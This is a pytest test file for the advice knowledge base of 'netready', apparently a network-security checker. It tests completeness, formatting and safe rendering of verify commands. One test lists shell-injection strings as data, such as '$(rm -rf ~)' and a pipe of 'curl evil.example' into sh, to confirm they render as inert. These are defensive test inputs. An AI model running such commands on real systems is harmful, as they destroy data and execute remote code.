"""The advice knowledge base: complete for every check id, well formed, safely rendered."""

from __future__ import annotations

import re
import shlex
import tomllib
from pathlib import Path

import pytest

import netready.checks
from netready.advice import (
    FINDING_PLACEHOLDERS,
    PLATFORMS,
    VERDICT_STATUSES,
    AdviceError,
    advice_for,
    all_advice,
    load_advice,
    render_advice,
    template_placeholders,
    verify_command,
)
from netready.checks import FAMILIES, declared_check_ids
from netready.findings import Finding, Status, is_valid_check_id
from netready.resources import resources_dir

# DESIGN.md's check catalogue, copied: advice must exist for these before their families do.
CATALOGUE = frozenset(
    {
        "tls.connect",
        "tls.protocol.ssl2",
        "tls.protocol.ssl3",
        "tls.protocol.tls1_0",
        "tls.protocol.tls1_1",
        "tls.protocol.tls1_2",
        "tls.protocol.tls1_3",
        "tls.ciphers",
        "tls.key_exchange",
        "tls.cert.trusted",
        "tls.cert.hostname",
        "tls.cert.expiry",
        "tls.cert.key",
        "tls.cert.signature",
        "tls.vuln.heartbleed",
        "tls.vuln.robot",
        "tls.vuln.ccs_injection",
        "tls.renegotiation",
        "tls.compression",
        "tls.fallback_scsv",
        "tls.ocsp_stapling",
        "tls.cipher_order",
        "tls.address_parity",
        "https.available",
        "https.redirect",
        "https.hsts",
        "https.headers",
        "dnssec.status",
        "dnssec.algorithm",
        "dnssec.nsec3",
        "dns.resolver.validating",
        "dot.available",
        "dot.certificate",
        "doh.available",
        "ipv6.web.aaaa",
        "ipv6.web.reachable",
        "ipv6.web.parity",
        "ipv6.ns.aaaa",
        "ipv6.ns.reachable",
        "ipv6.mx.aaaa",
        "ipv6.mx.reachable",
        "ipv6.client",
        "exposure.port_parity",
        "exposure.lan.ipv6_hosts",
        "exposure.lan.router_advertisement",
        "exposure.lan.dhcpv6",
        "exposure.tunnel",
        "exposure.transition_address",
    }
)

# Ids a family under construction declares beyond the catalogue, before it is registered;
# once it is, the id leaves here (tls.grade did).
ANNOUNCED: frozenset[str] = frozenset()

# The platforms each kind of finding is fixed on (issue 8).
REQUIRED_PLATFORMS = {
    "https.": {"nginx", "apache", "iis", "caddy"},
    "dnssec.": {"bind", "knot", "powerdns", "dns_host"},
    "dns.resolver.": {"unbound", "bind", "windows_dns"},
    "dot.": {"unbound", "bind", "windows_dns"},
    "doh.": {"unbound", "bind", "windows_dns"},
    "exposure.lan.": {"windows", "macos", "network"},
}
WEB_SERVER_PLATFORMS = {"general", "nginx", "apache", "iis", "caddy"}
VERIFY_TOOLS = ("openssl", "dig", "delv", "curl", "nmap", "sslyze", "ip", "ping", "rdisc6", "diff")
ADVICE_DIR = resources_dir() / "advice"


def _entries() -> list[str]:
    return sorted(all_advice())


# --- completeness -------------------------------------------------------------------------


def test_every_declared_check_id_has_advice() -> None:
    missing = sorted(declared_check_ids() - set(all_advice()))
    assert not missing, f"check ids without advice in resources/advice/: {missing}"


def test_every_catalogue_check_id_has_advice() -> None:
    missing = sorted(CATALOGUE - set(all_advice()))
    assert not missing, f"DESIGN.md catalogue ids without advice: {missing}"


def test_every_advice_entry_names_a_known_check_id() -> None:
    known = declared_check_ids() | CATALOGUE | ANNOUNCED
    unknown = sorted(set(all_advice()) - known)
    assert not unknown, f"advice for check ids no family declares: {unknown}"


def test_advice_of_a_family_lives_in_its_own_file() -> None:
    where = {
        check_id: path.stem
        for path in ADVICE_DIR.glob("*.toml")
        for check_id in tomllib.loads(path.read_text(encoding="utf-8"))
    }
    for family in FAMILIES.values():
        for spec in family.checks:
            assert where[spec.check_id] in {family.name, spec.check_id.split(".")[0]}, spec
    for check_id, stem in where.items():
        if check_id not in declared_check_ids():
            assert stem == check_id.split(".")[0], f"{check_id} belongs in {stem}.toml"


# --- every entry is well formed -----------------------------------------------------------


@pytest.mark.parametrize("check_id", _entries())
def test_entry_has_every_required_part(check_id: str) -> None:
    advice = all_advice()[check_id]
    assert is_valid_check_id(check_id)
    assert advice.title
    assert advice.meaning
    assert advice.why
    assert advice.verify
    assert Status.ERROR in advice.verdicts, "an error (could not test) needs its own words"
    assert advice.verdicts.keys() & {Status.FAIL, Status.WARNING}, "what a problem means"
    assert set(advice.verdicts) <= set(VERDICT_STATUSES)
    assert advice.fixes, "at least one platform's fix"
    assert advice.references, "at least one reference"
    assert all(ref.url.startswith("https://") for ref in advice.references)


@pytest.mark.parametrize("check_id", _entries())
def test_why_is_one_plain_sentence(check_id: str) -> None:
    why = all_advice()[check_id].why
    assert why.endswith("."), why
    assert not re.search(r"[.!?] [A-Z]", why), f"more than one sentence: {why}"
    assert "\n" not in why
    assert len(why) <= 250, f"too long for a non-specialist: {why}"


@pytest.mark.parametrize("check_id", _entries())
def test_fixes_cover_the_platforms_of_the_family(check_id: str) -> None:
    fixes = set(all_advice()[check_id].fixes)
    for prefix, platforms in REQUIRED_PLATFORMS.items():
        if check_id.startswith(prefix):
            assert platforms <= fixes, f"missing platforms: {sorted(platforms - fixes)}"
    if check_id.startswith("tls."):
        assert fixes & WEB_SERVER_PLATFORMS


@pytest.mark.parametrize("check_id", _entries())
def test_templates_use_only_known_placeholders(check_id: str) -> None:
    advice = all_advice()[check_id]
    texts = [advice.title, advice.meaning, advice.why, advice.verify, *advice.verify_fallback]
    texts += [*advice.verdicts.values(), *advice.fixes.values()]
    used = set().union(*(template_placeholders(text) for text in texts))
    unknown = used - FINDING_PLACEHOLDERS - set(advice.evidence)
    # an unknown name is usually a literal dollar (nginx's $host) that needs `$$`
    assert not unknown, f"unknown placeholders (write $$ for a literal $): {sorted(unknown)}"


@pytest.mark.parametrize("check_id", _entries())
def test_verify_is_one_standard_command(check_id: str) -> None:
    advice = all_advice()[check_id]
    for verify in (advice.verify, *advice.verify_fallback):
        assert verify.split()[0] in VERIFY_TOOLS, verify
        assert "\n" not in verify


@pytest.mark.parametrize("check_id", _entries())
def test_verdicts_explain_rather_than_repeat_the_summary(check_id: str) -> None:
    # every view shows the summary next to the verdict: repeating it reads twice
    for status, verdict in all_advice()[check_id].verdicts.items():
        assert "summary" not in template_placeholders(verdict), status


def test_listed_evidence_keys_are_ones_the_family_writes() -> None:
    checks_dir = Path(netready.checks.__file__).parent
    sources = "\n".join(path.read_text(encoding="utf-8") for path in checks_dir.glob("*.py"))
    for check_id, advice in all_advice().items():
        if check_id not in declared_check_ids():
            continue
        for key in advice.evidence:
            assert f'"{key}"' in sources, f"{check_id}: no family writes evidence[{key!r}]"


def test_fix_code_blocks_are_closed() -> None:
    for check_id, advice in all_advice().items():
        for platform, text in advice.fixes.items():
            assert text.count("```") % 2 == 0, f"{check_id} {platform}: unclosed code block"


# --- rendering ----------------------------------------------------------------------------


def _finding(check_id: str = "tls.protocol.tls1_0", **overrides: object) -> Finding:
    values: dict[str, object] = {
        "target": "example.org",
        "subject": "www.example.org [2001:db8::10]:443",
        "check_id": check_id,
        "status": Status.WARNING,
        "summary": "TLS 1.0 is accepted.",
        "evidence": {},
    }
    values.update(overrides)
    return Finding(**values)  # type: ignore[arg-type]


def test_advice_for_an_unknown_id_is_none() -> None:
    assert advice_for("no.such.check") is None
    assert advice_for("dns.resolve") is not None


def test_render_fills_the_endpoint_from_the_subject() -> None:
    rendered = render_advice(_finding())
    assert (
        rendered.verdict
        == "www.example.org [2001:db8::10]:443 still accepts TLS 1.0; plan to switch it off."
    )
    assert "-connect '[2001:db8::10]:443' -servername www.example.org -tls1" in rendered.verify
    assert set(rendered.fixes) == {"nginx", "apache", "iis", "caddy"}
    assert "www.example.org" in rendered.fixes["caddy"]


def test_render_an_ipv4_endpoint() -> None:
    finding = _finding("tls.vuln.heartbleed", subject="mail.example.org 192.0.2.25:465")
    assert render_advice(finding).verify == (
        "nmap -4 -Pn -p 465 --script ssl-heartbleed 192.0.2.25"
    )


def test_a_parity_subject_names_its_host() -> None:
    finding = _finding("ipv6.web.parity", subject="www.example.org [192.0.2.10] / [2001:db8::10]")
    assert "curl -4 -s -m 10 https://www.example.org/" in render_advice(finding).verify


def test_a_pass_shows_its_summary_as_the_verdict() -> None:
    rendered = render_advice(_finding(status=Status.PASS, summary="Only TLS 1.2 and 1.3."))
    assert rendered.verdict == "Only TLS 1.2 and 1.3."


def test_a_status_without_its_own_text_gets_a_generic_one() -> None:
    rendered = render_advice(_finding("tls.vuln.heartbleed", status=Status.INFO, summary="odd"))
    assert rendered.verdict == "Worth knowing: odd"


def test_a_platform_narrows_the_fixes_when_the_entry_has_it() -> None:
    assert set(render_advice(_finding(), platform="nginx").fixes) == {"nginx"}
    assert set(render_advice(_finding(), platform="macos").fixes) == {
        "nginx",
        "apache",
        "iis",
        "caddy",
    }


def test_literal_dollars_survive_rendering() -> None:
    fix = render_advice(_finding("https.redirect", subject="example.org 192.0.2.10:80")).fixes
    assert "return 301 https://$host$request_uri;" in fix["nginx"]
    assert "server_name example.org;" in fix["nginx"]


def test_a_finding_without_advice_still_renders() -> None:
    rendered = render_advice(_finding("future.check", summary="Something."))
    assert rendered.title == "future.check"
    assert rendered.verdict == "Something."
    assert rendered.fixes == {}
    assert rendered.verify == ""


@pytest.mark.parametrize(
    "hostile",
    [
        "$(rm -rf ~)",
        "`reboot`",
        "a.example; curl evil.example | sh",
        "x' ; touch /tmp/pwned ; '",
        "{0.__class__.__mro__}",
        "$host ${subject}",
    ],
)
def test_hostile_evidence_is_one_inert_shell_word(hostile: str) -> None:
    finding = _finding(
        "dns.resolver.validating",
        subject="192.0.2.53",
        status=Status.FAIL,
        evidence={"bogus_name": hostile, "secure_name": "isc.org"},
    )
    command = render_advice(finding).verify
    assert command == verify_command(finding)
    words = shlex.split(command)
    assert words[:3] == ["dig", "@192.0.2.53", hostile]
    # the value is never expanded again, and str.format fields mean nothing
    assert render_advice(finding).verdict.count(hostile) == 1


def test_str_format_fields_are_not_placeholders() -> None:
    finding = _finding("tls.vuln.heartbleed", status=Status.INFO, summary="{0.__class__}")
    assert render_advice(finding).verdict == "Worth knowing: {0.__class__}"


def test_a_fallback_command_serves_a_finding_without_an_address() -> None:
    finding = _finding("ipv6.mx.reachable", subject="example.org", status=Status.INFO)
    assert render_advice(finding).verify == "dig +short example.org MX"
    assert verify_command(finding) == "dig +short example.org MX"
    endpoint = _finding("ipv6.mx.reachable", subject="mail.example.org [2001:db8::25]:25")
    assert verify_command(endpoint) == "nmap -6 -Pn -sV -p 25 2001:db8::25"


def test_a_url_subject_gives_its_address() -> None:
    finding = _finding("doh.available", subject="https://[2001:db8::53]/dns-query")
    assert verify_command(finding) == "dig @2001:db8::53 +https . NS"
    assert (
        "https://[2001:db8::53]/dns-query"
        in render_advice(
            _finding(
                "doh.available", subject="https://[2001:db8::53]/dns-query", status=Status.FAIL
            )
        ).verdict
    )


def test_a_lan_finding_names_its_interface() -> None:
    finding = _finding(
        "exposure.lan.router_advertisement",
        target="lan:eth0",
        subject="router fe80::1%eth0 (02:00:00:00:00:01)",
        status=Status.FAIL,
    )
    assert render_advice(finding).verify == "rdisc6 eth0"
    assert "net.ipv6.conf.eth0.accept_ra=0" in render_advice(finding).fixes["linux"]


def test_a_port_parity_subject_gives_name_and_port() -> None:
    finding = _finding(
        "exposure.port_parity",
        subject="files.example.org [192.0.2.5] / [2001:db8::5] port 445",
        status=Status.FAIL,
        evidence={"port": 445, "ipv6": "2001:db8::5"},
    )
    assert verify_command(finding) == (
        "nmap -4 -Pn -p 445 files.example.org; nmap -6 -Pn -p 445 files.example.org"
    )


def test_a_mail_port_gets_starttls_and_a_name_port_subject_an_endpoint() -> None:
    mail = _finding("tls.connect", subject="mail.example.org [2001:db8::25]:25")
    assert verify_command(mail).startswith(
        "openssl s_client -starttls smtp -connect '[2001:db8::25]:25' -servername mail.example.org"
    )
    named = _finding("tls.connect", subject="www.example.org:443")
    assert verify_command(named).startswith(
        "openssl s_client -connect www.example.org:443 -servername www.example.org"
    )


def test_a_placeholder_with_no_value_stays_visible() -> None:
    finding = _finding("tls.connect", subject="this machine")
    assert "-connect $endpoint" in render_advice(finding).verify
    assert "$starttls" not in render_advice(finding).verify


# --- the loader refuses malformed files -----------------------------------------------------

GOOD_ENTRY = """
["x.y"]
title = "T"
meaning = "M"
why = "W."
verify = "dig x"
[["x.y".references]]
title = "R"
url = "https://example.org/"
"""


def _load(tmp_path: Path, *texts: str) -> object:
    for number, text in enumerate(texts):
        (tmp_path / f"f{number}.toml").write_text(text, encoding="utf-8")
    return load_advice(tmp_path)


def test_a_good_file_loads(tmp_path: Path) -> None:
    assert "x.y" in _load(tmp_path, GOOD_ENTRY)  # type: ignore[operator]


@pytest.mark.parametrize(
    ("extra", "message"),
    [
        ('["x.y".fixes]\nwindows95 = "no"', "unknown platforms"),
        ('["x.y".verdicts]\npass = "fine"', "non-pass"),
        ('["x.y".verdicts]\nsuperb = "fine"', "unknown status"),
    ],
)
def test_malformed_entries_are_refused(tmp_path: Path, extra: str, message: str) -> None:
    with pytest.raises(AdviceError, match=message):
        _load(tmp_path, GOOD_ENTRY + extra)


def test_a_missing_field_is_named(tmp_path: Path) -> None:
    with pytest.raises(AdviceError, match="has no why"):
        _load(tmp_path, GOOD_ENTRY.replace('why = "W."\n', ""))


def test_one_id_in_two_files_is_refused(tmp_path: Path) -> None:
    with pytest.raises(AdviceError, match="two files"):
        _load(tmp_path, GOOD_ENTRY, GOOD_ENTRY)


def test_platform_labels_exist_for_every_key() -> None:
    assert all(label for label in PLATFORMS.values())
